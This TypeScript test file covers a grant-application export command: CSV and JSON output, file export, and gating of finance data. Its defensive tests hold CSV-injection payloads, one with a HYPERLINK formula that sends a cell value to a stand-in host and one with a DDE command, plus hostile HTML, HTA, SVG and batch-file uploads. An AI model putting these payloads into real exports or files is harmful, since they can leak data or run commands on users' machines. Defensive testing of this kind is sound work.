import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endpoints } from '../../src/api/endpoints';
import { formDefinitions, type FieldDefinition, type FormValues, type WirePayload } from '../../src/forms/definitions';
import { payloadToFormEntries } from '../../src/forms/definitions/payload';
import { FINANCE_WARNING, runExportCommand, UsageError } from '../../src/server/export/cli';
import { toCsv } from '../../src/server/export/csv';
import { addGrantee } from '../../src/server/grantees';
import type { RunningServer } from '../../src/server/main';
import { validFinanceCrypto, validOfficeHours, validProjectGrants } from '../../scripts/support/formAnswers';
import { createRestartableStorage, type RestartableStorage } from './support/restartableServer';
import { postJson } from './support/testServer';

const projectDir = path.resolve(__dirname, '../..');
const definition = formDefinitions['project-grants'];

/** Free text: typed by the applicant, no pattern or option list to satisfy. */
const isFreeText = (field: FieldDefinition): boolean => (field.kind === 'text' || field.kind === 'textarea') && !field.pattern && !field.checks && !field.options;

/** Every free-text answer holds a comma, quotes and accents; the long answers also line breaks. */
function trickyProjectGrant(): FormValues {
  const values = validProjectGrants();
  for (const field of definition.fields.filter(isFreeText)) {
    if (!field.visibleWhen || field.visibleWhen(values)) {
      const tricky = field.kind === 'textarea' ? `Línea "uno", con ñ y acentos: áéíóú\nLínea dos; "fin", ¿sí?` : `Peña, "La Señal"`;
      values[field.name] = tricky.slice(0, field.maxLength ?? tricky.length);
    }
  }
  return values;
}

const PROPOSAL = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2048, 0x41)]);
// A comma and an accent (browsers send quotes in file names as %22).
const PROPOSAL_NAME = 'propuesta, versión final.pdf';

type Run = { stdout: string; stderr: string };

describe('npm run export', () => {
  let storage: RestartableStorage;
  let submissionId: string;
  let sentPayload: WirePayload;
  let financeSecurityId: string;
  let roundName: string;
  const outputDir = fs.mkdtempSync(path.join(os.tmpdir(), 'export-out-'));

  const run = async (...args: string[]): Promise<Run> => {
    const result = { stdout: '', stderr: '' };
    await runExportCommand(args, { stdout: (text) => (result.stdout += text), stderr: (text) => (result.stderr += text) }, { env: storage.env, projectDir, outputDir });
    return result;
  };

  beforeAll(async () => {
    storage = await createRestartableStorage();
    const server: RunningServer = await storage.start({});
    try {
      const values = trickyProjectGrant();
      sentPayload = definition.toPayload(values);
      const body = new FormData();
      for (const [name, value] of payloadToFormEntries(sentPayload)) body.append(name, value);
      body.append('uploadProposal', new Blob([new Uint8Array(PROPOSAL)], { type: 'application/pdf' }), PROPOSAL_NAME);
      const response = await fetch(server.address + endpoints.projectGrants.path, { method: 'POST', body });
      expect(response.status).toBe(201);
      submissionId = ((await response.json()) as { id: string }).id;
      // The round the server filed it in (the seeded one, from today's settings).
      const [round] = await server.database.query<{ name: string }>('SELECT r.name FROM rounds r JOIN submissions s ON s.round_id = r.id WHERE s.id = $1', [submissionId]);
      roundName = round!.name;

      const { securityId } = await addGrantee(server.database, 'Cooperativa Ñandú');
      financeSecurityId = securityId;
      const finance = await postJson(server.address + endpoints.granteeFinance.path, formDefinitions['grantee-finance'].toPayload({ ...validFinanceCrypto(), granteeSecurityID: securityId }), 'PUT');
      expect(finance.status).toBe(201);
    } finally {
      // The CLI opens the same PGlite folder, which one process at a time may hold.
      await server.stop();
    }
  });
  afterAll(async () => {
    await storage.close();
    fs.rmSync(outputDir, { recursive: true, force: true });
  });

  it('writes CSV that round-trips through csv-parse: one column per field, labelled, every value as sent', async () => {
    const { stdout } = await run('--form', 'project-grants');
    expect(stdout.startsWith('\uFEFF')).toBe(true);
    const [headers, ...records] = parse(stdout, { bom: true }) as string[][];
    const answerFields = definition.fields.filter((field) => field.kind !== 'captcha' && field.kind !== 'file');
    expect(headers).toEqual([
      'Submission ID', 'Reference', 'Submitted at', 'Convocatoria', 'Version', ...answerFields.map((field) => field.label), 'Uploaded file', 'Fetch file command',
      // The review follows the answers; no reviewer has scored yet, so no per-reviewer score columns.
      'Status', 'Reviewers', 'Score', 'Reviews done', 'Reviews assigned', 'Spread', 'Disagreement',
    ]);
    expect(records).toHaveLength(1);
    const record = Object.fromEntries(headers!.map((header, index) => [header, records[0]![index]]));
    for (const field of answerFields) expect(record[field.label], field.name).toBe(sentPayload[field.name] === undefined ? '' : String(sentPayload[field.name]));
    // The tricky characters really are in there.
    expect(answerFields.filter((field) => record[field.label]!.includes('"La Señal"')).length).toBeGreaterThan(3);
    expect(answerFields.filter((field) => record[field.label]!.includes('\n')).length).toBeGreaterThan(3);
    expect(roundName).not.toBe('');
    expect(record).toMatchObject({ 'Submission ID': submissionId, Reference: `PG-${submissionId.padStart(6, '0')}`, Convocatoria: roundName, Version: '1', 'Uploaded file': PROPOSAL_NAME, 'Fetch file command': `npm run export -- --file ${submissionId}` });
    expect(record).toMatchObject({ Status: 'received', Reviewers: '', Score: '', 'Reviews done': '0', 'Reviews assigned': '0', Spread: '', Disagreement: 'no' });
    expect(Date.parse(record['Submitted at']!)).toBeGreaterThan(Date.now() - 600_000);
  });

  it('writes JSON with the same columns, to a file with --out', async () => {
    const { stdout, stderr } = await run('--form', 'project-grants', '--format', 'json', '--out', 'project.json');
    expect(stdout).toBe('');
    expect(stderr).toContain('Wrote 1 project-grants application to project.json');
    const [row] = JSON.parse(fs.readFileSync(path.join(outputDir, 'project.json'), 'utf8')) as Array<Record<string, string>>;
    const description = definition.fields.find((field) => field.name === 'projectDescription')!;
    expect(row![description.label]).toBe(sentPayload.projectDescription);
    expect(row!['Submission ID']).toBe(submissionId);
  });

  it('leaves out applications before --since', async () => {
    const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
    const { stdout } = await run('--form', 'project-grants', '--since', tomorrow);
    expect(parse(stdout, { bom: true })).toHaveLength(1);
    await expect(run('--form', 'project-grants', '--since', 'ayer')).rejects.toThrow(UsageError);
  });

  it("writes the uploaded file, byte for byte, under the original name's stem and the sniffed type's extension", async () => {
    const { stderr } = await run('--file', submissionId);
    const written = path.join(outputDir, `${submissionId}-propuesta_versión_final.pdf`);
    expect(fs.readFileSync(written).equals(PROPOSAL)).toBe(true);
    expect(stderr).toContain(PROPOSAL_NAME);
    // Never over an existing file.
    await expect(run('--file', submissionId)).rejects.toThrow(/EEXIST/);
  });

  it('exports grantee finance only with --include-finance, warning on stderr, without the security ID', async () => {
    await expect(run('--form', 'grantee-finance')).rejects.toThrow('--include-finance');
    const { stdout, stderr } = await run('--form', 'grantee-finance', '--include-finance');
    expect(stderr).toBe(`${FINANCE_WARNING}\n`);
    const [headers, record] = parse(stdout, { bom: true }) as string[][];
    const securityIdField = formDefinitions['grantee-finance'].fields.find((field) => field.name === 'granteeSecurityID')!;
    expect(headers).not.toContain(securityIdField.label);
    expect(record).toContain('Cooperativa Ñandú');
    expect(record).toContain(validFinanceCrypto().ethAddress);
    expect(stdout).not.toContain(financeSecurityId);
    expect(stderr).not.toContain(validFinanceCrypto().ethAddress);
  });
});

/** OWASP's CSV injection starts: each would run as a formula in a spreadsheet app. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describe('CSV is safe by default (OWASP CSV injection)', () => {
  it('neutralises a cell starting with =, +, -, @, TAB or CR with a leading single quote; raw leaves it as sent', () => {
    const rows = FORMULAS.map((formula) => ['1', formula, 'texto normal', 'a=b']);
    const [, ...safe] = parse(toCsv(['id', 'answer', 'plain', 'inner'], rows), { bom: true }) as string[][];
    expect(safe.map((row) => row[1])).toEqual(FORMULAS.map((formula) => `'${formula}`));
    expect(safe.map((row) => row.slice(2))).toEqual(FORMULAS.map(() => ['texto normal', 'a=b']));
    const [, ...raw] = parse(toCsv(['id', 'answer', 'plain', 'inner'], rows, { raw: true }), { bom: true }) as string[][];
    expect(raw.map((row) => row[1])).toEqual(FORMULAS);
  });
});

describe('npm run export, hostile answers and files', () => {
  let storage: RestartableStorage;
  const outputDir = fs.mkdtempSync(path.join(os.tmpdir(), 'export-hostile-'));
  const sentValues: Record<string, string> = {};
  const files: Record<string, { id: string; bytes: Buffer }> = {};
  const run = async (...args: string[]): Promise<string> => {
    let stdout = '';
    await runExportCommand(args, { stdout: (text) => (stdout += text), stderr: () => undefined }, { env: storage.env, projectDir, outputDir });
    return stdout;
  };
  const officeHours = formDefinitions['office-hours'];
  /** Content a double click would run or render, sent under its own extension; the server stores it as text. */
  const HOSTILE_FILES: Record<string, string> = {
    'proposal.html': '<!doctype html><script>alert(1)</script>',
    'proposal.hta': '<hta:application id="x"><script>alert(1)</script>',
    'proposal.bat': '@echo off\r\ndel /q %TEMP%\\*\r\n',
    'proposal.svg': '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  };

  beforeAll(async () => {
    storage = await createRestartableStorage();
    const server = await storage.start({});
    try {
      const values = validOfficeHours();
      const freeText = officeHours.fields.filter((field) => isFreeText(field) && (!field.visibleWhen || field.visibleWhen(values)));
      freeText.forEach((field, index) => (values[field.name] = FORMULAS[index % FORMULAS.length]!.slice(0, field.maxLength)));
      const payload = officeHours.toPayload(values);
      for (const field of freeText) sentValues[field.label] = String(payload[field.name]);
      expect((await postJson(server.address + endpoints.officeHours.path, payload)).status).toBe(201);

      for (const [name, content] of Object.entries(HOSTILE_FILES)) {
        const body = new FormData();
        for (const [field, value] of payloadToFormEntries(definition.toPayload(validProjectGrants()))) body.append(field, value);
        const bytes = Buffer.from(content);
        body.append('uploadProposal', new Blob([new Uint8Array(bytes)]), name);
        const response = await fetch(server.address + endpoints.projectGrants.path, { method: 'POST', body });
        expect(response.status, name).toBe(201);
        files[name] = { id: ((await response.json()) as { id: string }).id, bytes };
      }
    } finally {
      await server.stop();
    }
  });
  afterAll(async () => {
    await storage.close();
    fs.rmSync(outputDir, { recursive: true, force: true });
  });

  it('writes formula-like answers neutralised, and as sent with --raw', async () => {
    expect(Object.keys(sentValues).length).toBeGreaterThanOrEqual(FORMULAS.length);
    const [headers, record] = parse(await run('--form', 'office-hours'), { bom: true }) as string[][];
    const cells = Object.fromEntries(headers!.map((header, index) => [header, record![index]!]));
    for (const [label, sent] of Object.entries(sentValues)) expect(cells[label], label).toBe(/^[=+\-@\t\r]/.test(sent) ? `'${sent}` : sent);
    const [rawHeaders, rawRecord] = parse(await run('--form', 'office-hours', '--raw'), { bom: true }) as string[][];
    const rawCells = Object.fromEntries(rawHeaders!.map((header, index) => [header, rawRecord![index]!]));
    for (const [label, sent] of Object.entries(sentValues)) expect(rawCells[label], label).toBe(sent);
  });

  it.each(Object.keys(HOSTILE_FILES))('names the fetched copy of %s by its sniffed type (.txt), never its own extension', async (name) => {
    const { id, bytes } = files[name]!;
    await run('--file', id);
    expect(fs.readdirSync(outputDir).filter((file) => file.startsWith(`${id}-`))).toEqual([`${id}-proposal.txt`]);
    expect(fs.readFileSync(path.join(outputDir, `${id}-proposal.txt`)).equals(bytes)).toBe(true);
  });
});
